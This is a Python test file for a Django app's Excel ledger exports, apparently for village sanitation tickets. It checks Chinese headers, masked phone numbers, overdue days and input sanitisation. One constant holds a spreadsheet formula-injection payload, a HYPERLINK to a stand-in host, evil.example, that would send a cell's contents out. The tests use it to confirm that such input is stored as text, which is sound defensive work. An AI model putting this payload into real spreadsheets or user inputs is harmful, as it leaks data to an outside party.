"""Excel ledgers: Chinese headers, one row per ticket, masked phones, overdue days."""

from __future__ import annotations

import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from workflows.models import RectificationTicket, ToiletTicket
from workflows.tickets.exports import rectification_ledger, toilet_ledger

pytestmark = pytest.mark.django_db


def read(handle) -> list[tuple]:
    """The header and the data rows (row 1, the title, is tests/test_desk_pages.py's)."""
    with handle:
        sheet = load_workbook(handle, read_only=True).worksheets[0]
        return [tuple(row) for row in sheet.iter_rows(min_row=2, values_only=True)]


def test_rectification_ledger(assigned, submitted, draft):
    # `assigned` and `submitted` are the same ticket moved on; add an overdue one.
    late = RectificationTicket.objects.get(pk=assigned.pk)
    as_of = late.deadline + timedelta(days=4)
    rows = read(rectification_ledger(queryset=RectificationTicket.objects.all(), as_of=as_of))
    header, body = rows[0], rows[1:]
    assert header[:3] == ("编号", "乡镇", "村")
    assert len(body) == 1
    (row,) = body
    assert row[0] == late.number
    assert row[6] == "待复核"
    assert row[8] is None  # submitted: the town no longer owes work, not overdue


def test_overdue_days_for_a_running_ticket(assigned):
    as_of = assigned.deadline + timedelta(days=4)
    rows = read(rectification_ledger(queryset=RectificationTicket.objects.all(), as_of=as_of))
    assert rows[1][6] == "整改中"
    assert rows[1][8] == 4


def test_toilet_ledger_masks_the_phone(done, household):
    rows = read(toilet_ledger(queryset=ToiletTicket.objects.all()))
    header, (row,) = rows[0], rows[1:]
    phone_at = header.index("联系电话")
    assert row[phone_at] == "138****1234"
    assert household.phone not in [str(cell) for cell in row]
    assert row[header.index("抽运量（m³）")] in (2.5, "2.50")


def test_export_view_follows_the_filters_and_the_scope(client, assigned, hj_officer, other_officer):
    from django.urls import reverse

    client.force_login(hj_officer)
    response = client.get(reverse("ticket_export"), {"state": "assigned"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    rows = read(io.BytesIO(b"".join(response.streaming_content)))
    assert [row[0] for row in rows[1:]] == [assigned.number]

    client.force_login(other_officer)  # another town: an empty ledger, not 胡集镇's tickets
    response = client.get(reverse("ticket_export"), {"state": "assigned"})
    assert len(read(io.BytesIO(b"".join(response.streaming_content)))) == 1


def test_export_refuses_a_bad_filter(client, task_force):
    from django.urls import reverse

    client.force_login(task_force)
    response = client.get(reverse("ticket_export"), {"deadline_after": "not-a-date"})
    assert response.status_code == 400


def test_toilet_export_masks_phones(client, done, hj_officer):
    from django.urls import reverse

    client.force_login(hj_officer)
    response = client.get(reverse("toilet_export"), {"state": "done"})
    rows = read(io.BytesIO(b"".join(response.streaming_content)))
    assert "138****1234" in rows[1]


# --- what people typed is data, never a formula, and never breaks the file -------------------

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def test_a_formula_typed_as_text_is_written_as_text(client, task_force, draft):
    RectificationTicket.objects.filter(pk=draft.pk).update(description=HOSTILE)
    client.force_login(task_force)

    response = client.get("/tickets/export.xlsx")

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
    hostile = [cell for cell in cells if cell.value == HOSTILE]
    assert hostile and all(cell.data_type == "s" for cell in hostile)  # a string, not "f"
    assert not any(cell.data_type == "f" for cell in cells)


def test_a_control_character_in_old_data_does_not_break_the_export(client, task_force, draft):
    # Saved before forms refused them (or by an import): dropped from the cell, not a 500.
    RectificationTicket.objects.filter(pk=draft.pk).update(description="河道\x0b垃圾\x1b堆放")
    client.force_login(task_force)

    response = client.get("/tickets/export.xlsx")

    assert response.status_code == 200
    rows = read(io.BytesIO(b"".join(response.streaming_content)))
    assert any(
        "河道垃圾堆放" in (value or "") for row in rows for value in row if isinstance(value, str)
    )


def test_a_control_character_typed_into_a_form_is_refused_with_a_message(
    client, inspector, huji, huji_village
):
    client.force_login(inspector)
    response = client.post(
        "/tickets/new/",
        {"town": huji.code, "village": huji_village.code, "description": "岸边\x1b垃圾"},
    )
    assert response.status_code == 400
    assert "U+001B" in response.content.decode()
    assert not RectificationTicket.objects.exists()


# --- core.xlsx writes the data rows itself: the same file as openpyxl's own writing -----------

ODD_ROWS = [
    [
        "ZG-2026-0000001",
        HOSTILE,
        "  前后有空格 ",
        "一行\r\n另一行\t",
        "河道\x0b垃圾\x1b堆放",
        "",
        "<b>&amp;</b> \"'",
        "长" * 40_000,
        7,
        -3,
        Decimal("2.50"),
        0.1,
        date(2026, 2, 28),
        datetime(2026, 2, 28, 9, 30, 15),
        None,
        "末",
    ],
    # A bool and an Excel error's text: the rows openpyxl writes itself.
    [True, "#N/A", None, "=", 1.5e300, date(1900, 3, 1), datetime(1999, 12, 31, 23, 59, 59)],
    [float("nan"), "一列"],
    [],
]


def cells(sheet, first_row: int) -> list[list[tuple]]:
    """Every cell from `first_row` down: (coordinate, value, data type, number format)."""
    return [
        [(cell.coordinate, cell.value, cell.data_type, cell.number_format) for cell in row]
        for row in sheet.iter_rows(min_row=first_row, max_col=17)
    ]


def test_the_data_rows_are_the_cells_openpyxl_would_write(monkeypatch):
    from openpyxl import Workbook

    from core import xlsx
    from core.xlsx import Column, ledger_write, safe_row

    made = []  # the rows written by core.xlsx itself, as XML
    row_xml = xlsx._FastRows.row_xml

    def recorded(self, values, row_index):
        xml = row_xml(self, values, row_index)
        if xml is not None:
            made.append(xml)
        return xml

    monkeypatch.setattr(xlsx._FastRows, "row_xml", recorded)
    columns = [Column(lambda n=n: f"列{n}", f"f{n}") for n in range(17)]
    with ledger_write(title="台账", columns=columns, rows=iter(ODD_ROWS)) as handle:
        written = load_workbook(io.BytesIO(handle.read())).worksheets[0]
    assert [xml[:11] for xml in made] == ['<row r="3">', '<row r="6">']

    reference = Workbook(write_only=True)
    sheet = reference.create_sheet()
    for row in ODD_ROWS:
        sheet.append(safe_row(sheet, row))
    buffer = io.BytesIO()
    reference.save(buffer)
    expected = load_workbook(buffer).worksheets[0]

    # Coordinates differ by the title and header rows above the data.
    def shifted(rows):
        return [[(value, kind, fmt) for _coordinate, value, kind, fmt in row] for row in rows]

    assert shifted(cells(written, 3)) == shifted(cells(expected, 1))
    first = [cell.value for cell in written[3]]
    assert first[1] == HOSTILE and written["B3"].data_type == "s"  # text, not a formula
    assert first[3] == "一行\r\n另一行\t" and first[2] == "  前后有空格 "
    assert first[4] == "河道垃圾堆放" and len(first[7]) == 32_767
    assert first[12:14] == [datetime(2026, 2, 28), datetime(2026, 2, 28, 9, 30, 15)]
    assert (written["M3"].number_format, written["N3"].number_format) == (
        "yyyy-mm-dd",
        "yyyy-mm-dd h:mm:ss",
    )
    assert written.max_row == 2 + len(ODD_ROWS) - 1  # the empty last row adds none
    assert written.auto_filter.ref == "A2:Q6"


def test_characters_xml_cannot_hold_are_left_out_of_a_text():
    """A text is written into the sheet as it is: U+FFFE, U+FFFF and a lone surrogate, which no
    XML file may hold (nor openpyxl's illegal control characters), are dropped, not written into
    a file Excel would call damaged."""
    from core.xlsx import Column, ledger_write

    columns = [Column(lambda: "说明", "text"), Column(lambda: "数", "n")]
    rows = iter([["甲\uffff乙\ufffe丙\ud800丁\x01", 1]])
    with ledger_write(title="台账", columns=columns, rows=rows) as handle:
        sheet = load_workbook(io.BytesIO(handle.read())).worksheets[0]
    assert [cell.value for cell in sheet[3]] == ["甲乙丙丁", 1]
